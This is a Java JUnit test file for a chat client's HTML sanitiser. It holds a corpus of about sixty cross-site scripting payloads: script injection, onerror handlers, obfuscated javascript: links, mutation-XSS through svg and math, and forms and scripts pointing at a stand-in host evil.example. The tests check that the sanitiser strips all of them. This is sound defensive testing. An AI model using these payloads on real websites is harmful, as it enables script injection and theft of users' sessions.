package org.ferry.live.message;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.Set;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.jsoup.Jsoup;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;

/** Whatever somebody writes, what leaves holds nothing that runs where it is shown. */
class SafeHtmlTest {
  private static final Set<String> TAGS =
      Set.of(
          ("del h1 h2 h3 h4 h5 h6 blockquote p a ul ol sup sub li b i u strong em s code hr br div"
                  + " table thead tbody tr th td caption pre span img details summary")
              .split(" ", -1));
  private static final Set<String> ATTRIBUTES =
      Set.of(
          ("a.href a.target a.rel img.width img.height img.alt img.title img.src ol.start"
                  + " code.class span.data-mx-bg-color span.data-mx-color span.data-mx-spoiler"
                  + " span.data-mx-maths div.data-mx-maths")
              .split(" ", -1));
  private static final Pattern TAG =
      Pattern.compile("<(/?)([a-z0-9]+)((?: [a-z-]+(?:=\"[^\"]*\")?)*)>");
  private static final Pattern ATTRIBUTE = Pattern.compile("\\G ([a-z-]+)(?:=\"([^\"]*)\")?");
  private static final Pattern LINK = Pattern.compile("(https?|ftp|mailto|magnet):.*");
  private static final int DEEPEST = 100;

  /** One hostile thing in each line. */
  private static final String CORPUS =
      """
      <script>alert(1)</script>
      <SCRIPT SRC=//evil.example/x.js></SCRIPT>
      <scr<script>ipt>alert(1)</scr</script>ipt>
      <script>alert(1)//
      <img src=x onerror=alert(1)>
      <img src="mxc://e.example/a" onerror="alert(1)" onload=alert(1)>
      <img src="mxc://e.example/a"onerror="alert(1)">
      <img/src="x"/onerror=alert(1)//
      <img src=`x` onerror=alert(1)>
      <img src="https://evil.example/pixel.png">
      <img src="//evil.example/pixel.png" srcset="https://evil.example/2 2x">
      <img src="data:image/svg+xml;base64,PHN2Zy8+">
      <img src="x:mxc://e.example/a" alt="&quot;><script>alert(1)</script>">
      <img alt="a > b < c" title='"onload="x' src="mxc://e.example/a">
      <b onclick="alert(1)" onmouseover=alert(1) style="position:fixed">bold</b>
      <p ONCLICK="alert(1)">text</p>
      <a href="javascript:alert(1)">x</a>
      <a href="JaVaScRiPt:alert(1)">x</a>
      <a href=" javascript:alert(1)">x</a>
      <a href="java&#115;cript:alert(1)">x</a>
      <a href="java&Tab;script:alert(1)">x</a>
      <a href="&#x6A&#x61&#x76&#x61script:alert(1)">x</a>
      <a href="&#1;javascript:alert(1)">x</a>
      <a href="javascript&colon;alert(1)">x</a>
      <a href="vbscript:x">x</a><a href="file:///etc/passwd">x</a>
      <a href="data:text/html,<script>alert(1)</script>">x</a>
      <a href="https:javascript:alert(1)" onfocus=alert(1) autofocus>x</a>
      <a href="//evil.example">x</a><a href="/local">x</a><a href="?a=b">x</a>
      <a href='https://e.example/"onmouseover="alert(1)'>x</a>
      <a href="https://e.example" rel="opener" target="_blank">x</a>
      <svg><script>alert(1)</script></svg>
      <svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
      <svg><style><img src=x onerror=alert(1)></style></svg>
      <math><mtext><table><mglyph><style><!--</style><img src=x onerror=alert(1)>
      <math href="javascript:alert(1)"><mi xlink:href="data:x">x</mi></math>
      <iframe src="javascript:alert(1)"></iframe><iframe srcdoc="<script>alert(1)</script>">
      <object data="x.swf"><embed src="x.swf"></object><applet code="X">
      <form action="https://evil.example"><input name=p type=password><button formaction=x>b</form>
      <link rel=stylesheet href=//evil.example><meta http-equiv=refresh content="0;url=//evil">
      <base href="https://evil.example/"><a href="login">x</a>
      <style>@import 'https://evil.example';</style><div style="background:url(//evil)">x</div>
      <noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
      <textarea></textarea><img src=x onerror=alert(1)></textarea>
      <title><img src=x onerror=alert(1)></title><xmp><img src=x onerror=alert(1)></xmp>
      <template><img src=x onerror=alert(1)></template><plaintext><script>alert(1)
      <!--<img src=x onerror=alert(1)>--><!--[if IE]><script>alert(1)</script><![endif]-->
      <![CDATA[<script>alert(1)</script>]]><?xml version="1.0"?><!DOCTYPE x [<!ENTITY y "z">]>&y;
      &lt;script&gt;alert(1)&lt;/script&gt;
      &amp;lt;script&amp;gt;alert(1)
      <b>bold<i>both<u>all<a href="https://e.example">unclosed
      </b></p></div></body></html><script>alert(1)</script>
      <table><tr><td><table><script>alert(1)</script><td onclick=x>deep
      <code class="language-java evil" onclick=x>x</code><code class="evil">y</code>
      <span data-mx-color="red&quot; onclick=&quot;x" data-x="y" data-mx-spoiler>x</span>
      <mx-reply><script>alert(1)</script><img src=x onerror=alert(1)></mx-reply>answer
      <div><mx-reply><div>open<script>alert(1)</div>
      <a<b onclick=x>c</a> < b <3 <>  </ > <//> <1> <-x>
      <b\u0000 onclick=x>nul</b><scr\u0000ipt>alert(1)</script>
      <a href="java\u0000script:alert(1)">x</a>\ufffd\ufeff\u202e\u2028
      <custom-tag onconnected=alert(1)><slot name=x>text</slot></custom-tag>
      <video src=x onerror=alert(1)><audio onplay=x autoplay><source src=x></video>
      <details ontoggle=alert(1) open><summary onclick=x>s</summary>d</details>
      """;

  static List<String> corpus() {
    return CORPUS.lines().toList();
  }

  /** As a reader that knows nothing of the cleaner goes over it, character by character. */
  private static void harmless(String written) {
    String clean = SafeHtml.clean(written);
    Matcher tag = TAG.matcher(clean);
    int at = 0;
    int depth = 0;
    while (tag.find()) {
      assertThat(clean.substring(at, tag.start())).as(written).doesNotContain("<", ">");
      assertThat(TAGS).as(written).contains(tag.group(2));
      assertThat(tag.group(1).isEmpty() || tag.group(3).isEmpty()).as(written).isTrue();
      attributes(tag.group(2), tag.group(3), written);
      if (!Set.of("br", "hr", "img").contains(tag.group(2))) {
        depth += tag.group(1).isEmpty() ? 1 : -1;
      }
      assertThat(depth).as(written).isBetween(0, DEEPEST);
      at = tag.end();
    }
    assertThat(clean.substring(at)).as(written).doesNotContain("<", ">");
    assertThat(depth).as("everything is closed in " + written).isZero();
    asBrowsersReadIt(clean, written);
  }

  /** Tags that stand where they may not are moved, and nothing else may come of that. */
  private static void asBrowsersReadIt(String clean, String written) {
    for (var element : Jsoup.parseBodyFragment(clean).body().select("body *")) {
      assertThat(TAGS).as(written).contains(element.tagName());
      element
          .attributes()
          .forEach(a ->
              assertThat(ATTRIBUTES).as(written).contains(element.tagName() + "." + a.getKey()));
    }
  }

  private static void attributes(String tag, String text, String written) {
    Matcher attribute = ATTRIBUTE.matcher(text);
    int at = 0;
    while (attribute.find()) {
      String name = attribute.group(1);
      assertThat(ATTRIBUTES).as(written).contains(tag + "." + name);
      if (name.equals("href")) {
        assertThat(attribute.group(2)).as(written).matches(LINK);
      }
      if (name.equals("src")) {
        assertThat(attribute.group(2)).as(written).startsWith("mxc:");
      }
      at = attribute.end();
    }
    assertThat(text.substring(at)).as(written).isEmpty();
  }

  @ParameterizedTest
  @MethodSource("corpus")
  void nothingThatRunsIsLeft(String written) {
    harmless(written);
  }

  /** The same things cut and mixed, always in the same way. */
  @Test
  void norOfWhatIsPutTogetherOfIt() {
    List<String> corpus = corpus();
    Random random = new Random(6);
    for (int i = 0; i < 2_000; i++) {
      var mixed = new StringBuilder();
      for (int part = 0; part < 3; part++) {
        String line = corpus.get(random.nextInt(corpus.size()));
        int from = random.nextInt(line.length());
        mixed.append(line, from, from + random.nextInt(line.length() - from) + 1);
      }
      harmless(mixed.toString());
    }
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "<b>bold</b><script>alert(1)</script> and more | <b>bold</b> and more",
        "<p onclick=\"x()\">hi</p> | <p>hi</p>",
        "<a href=\"javascript:alert(1)\">x</a> | <a rel=\"noopener\">x</a>",
        "<b>bold<i>both | <b>bold<i>both</i></b>",
        "<mx-reply><blockquote>asked</blockquote></mx-reply>answer | answer",
        "<custom>text</custom> | text",
        "&lt;script&gt; &amp; | &lt;script&gt; &amp;",
        "1 < 2 > 1 | 1 &lt; 2 &gt; 1",
        "5 > 3 | 5 &gt; 3",
        "<img src=\"mxc://e.example/a\" onerror=\"x()\"> | <img src=\"mxc://e.example/a\">",
        "<img src=\"https://e.example/a\" alt=\"cat\"> | <img alt=\"cat\">",
        "<code class=\"evil language-java\">x</code> | <code class=\"language-java\">x</code>",
      })
  void whatMayBeShownStays(String written, String clean) {
    assertThat(SafeHtml.clean(written)).isEqualTo(clean);
  }

  @Test
  void whatIsNestedForEverEndsAndWhatIsTooLongIsNone() {
    List<String> nested = new ArrayList<>();
    for (String tag : List.of("div", "b", "table", "ul", "blockquote", "a", "svg", "mx-reply")) {
      nested.add(("<" + tag + ">").repeat(SafeHtml.LONGEST / (tag.length() + 2)));
    }
    nested.add("<table><tr><td>".repeat(SafeHtml.LONGEST / 15));
    nested.add("<b><i>".repeat(SafeHtml.LONGEST / 12) + "</b></i>".repeat(100));
    nested.forEach(SafeHtmlTest::harmless);
    assertThat(SafeHtml.clean("<b>" + "x".repeat(SafeHtml.LONGEST))).isEmpty();
  }
}
